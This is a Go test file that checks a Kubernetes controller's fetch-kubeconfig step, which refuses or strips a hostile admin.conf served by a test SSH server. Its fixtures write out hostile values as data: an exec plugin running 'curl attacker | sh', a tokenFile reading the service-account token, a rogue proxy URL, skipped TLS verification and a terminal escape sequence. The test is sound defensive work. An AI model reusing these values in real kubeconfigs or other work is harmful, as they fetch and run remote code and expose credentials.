package pod_test

import (
	"encoding/base64"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	corev1 "k8s.io/api/core/v1"
	"k8s.io/client-go/tools/clientcmd"
	"sigs.k8s.io/controller-runtime/pkg/client"

	bpav1 "github.com/akraino-edge-stack/bpa-workflow-controller/api/v1alpha1"
	"github.com/akraino-edge-stack/bpa-workflow-controller/internal/test/testsshd"
	"github.com/akraino-edge-stack/bpa-workflow-controller/internal/test/testutil"
	"github.com/akraino-edge-stack/bpa-workflow-controller/pkg/steps"
	"github.com/akraino-edge-stack/bpa-workflow-controller/pkg/steps/fetchkubeconfig/pod"
	"github.com/akraino-edge-stack/bpa-workflow-controller/pkg/steps/stepcmd"
)

// TestHostileMasterReachesNoFurther gives fetch-kubeconfig a master (a real sshd) that serves
// crafted admin.conf files: what it stores is the least that reaches the new cluster, and a
// file that would make the kubeconfig's users run a command, read their own files, or read
// without bound is refused, finally, saying why and quoting nothing of it.
func TestHostileMasterReachesNoFurther(t *testing.T) {
	sshd := testsshd.Start(t)
	ns := env.Namespace(t)
	_, ref := env.Provisioning(t, "provisioning-cluster-abc.yaml", ns, "abc", ns)
	env.PinNode(t, ns, sshd.Port, sshd.HostKey)
	opts := stepcmd.SSHOptions{KeyFile: sshd.ClientKeyFile, Port: sshd.Port, Timeout: 10 * time.Second}
	fetch := func(t *testing.T, content string) error {
		t.Helper()
		conf := filepath.Join(t.TempDir(), "admin.conf")
		if err := os.WriteFile(conf, []byte(content), 0o600); err != nil {
			t.Fatal(err)
		}
		return pod.Run(ctx(), env.Client, ref, abcRun, abcPlaced("127.0.0.1"), conf, opts)
	}

	t.Run("extras dropped", func(t *testing.T) {
		crafted := testutil.AdminConf(`
    token: `+secretToken+`
    as: system:admin
    username: admin
    password: hunter2`, `- name: other
  user:
    exec:
      apiVersion: client.authentication.k8s.io/v1
      command: /bin/sh
      args: ["-c", "curl attacker | sh"]
extensions:
- name: x
  extension: {}
`)
		crafted = strings.Replace(crafted, "    server: https://lb.cluster.local:8443\n",
			"    server: https://lb.cluster.local:8443\n    proxy-url: http://192.0.2.66:3128\n    tls-server-name: lb.cluster.local\n", 1)
		if err := fetch(t, crafted); err != nil {
			t.Fatal(err)
		}
		sec := &corev1.Secret{}
		if err := env.Client.Get(ctx(), client.ObjectKey{Namespace: ns, Name: "cluster-abc" + bpav1.KubeconfigSecretSuffix}, sec); err != nil {
			t.Fatal(err)
		}
		cfg, err := clientcmd.Load(sec.Data[bpav1.KubeconfigSecretKey])
		if err != nil {
			t.Fatal(err)
		}
		if len(cfg.Clusters) != 1 || len(cfg.AuthInfos) != 1 || len(cfg.Contexts) != 1 || len(cfg.Extensions) != 0 {
			t.Fatalf("stored %d clusters, %d users, %d contexts, %d extensions; want one of each and none", len(cfg.Clusters), len(cfg.AuthInfos), len(cfg.Contexts), len(cfg.Extensions))
		}
		for _, cl := range cfg.Clusters {
			if cl.ProxyURL != "" || cl.InsecureSkipTLSVerify || cl.Server != "https://127.0.0.1:8443" || cl.TLSServerName != "lb.cluster.local" {
				t.Errorf("cluster %+v: want the master's address, the CA and the server name only", cl)
			}
		}
		for _, u := range cfg.AuthInfos {
			if u.Token != secretToken || u.Impersonate != "" || u.Username != "" || u.Password != "" || u.Exec != nil {
				t.Errorf("user %+v: want the token only", u)
			}
		}
	})

	for _, tc := range []struct{ name, content, want string }{
		{"an exec plugin", testutil.AdminConf(`
    exec:
      apiVersion: client.authentication.k8s.io/v1
      command: /bin/sh`), "runs a command or an auth provider"},
		{"a token file", testutil.AdminConf(`
    tokenFile: /var/run/secrets/kubernetes.io/serviceaccount/token`), "no inline client certificate or token"},
		{"TLS verification skipped", strings.Replace(testutil.AdminConf(`
    token: x`), "    certificate-authority-data:", "    insecure-skip-tls-verify: true\n    x-certificate-authority-data:", 1), "no inline certificate-authority-data"},
		{"not a CA", strings.Replace(testutil.AdminConf(`
    token: x`), base64.StdEncoding.EncodeToString([]byte(testutil.TestCA)), base64.StdEncoding.EncodeToString([]byte("CA DATA")), 1), "not a PEM certificate"},
		{"not a kubeconfig", "\x1b]0;pwned\x07" + strings.Repeat("garbage ", 100), "not a kubeconfig"},
		{"without bound", strings.Repeat("x", 5<<20), "printed more than"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			err := fetch(t, tc.content)
			if err == nil || steps.IsRetryable(err) || !strings.Contains(err.Error(), tc.want) {
				t.Fatalf("%v; want a final error saying %q", err, tc.want)
			}
			if strings.Contains(err.Error(), "pwned") || strings.Contains(err.Error(), "garbage") || strings.Contains(err.Error(), "xxxx") {
				t.Errorf("the error quotes the node's file: %v", err)
			}
		})
	}
}
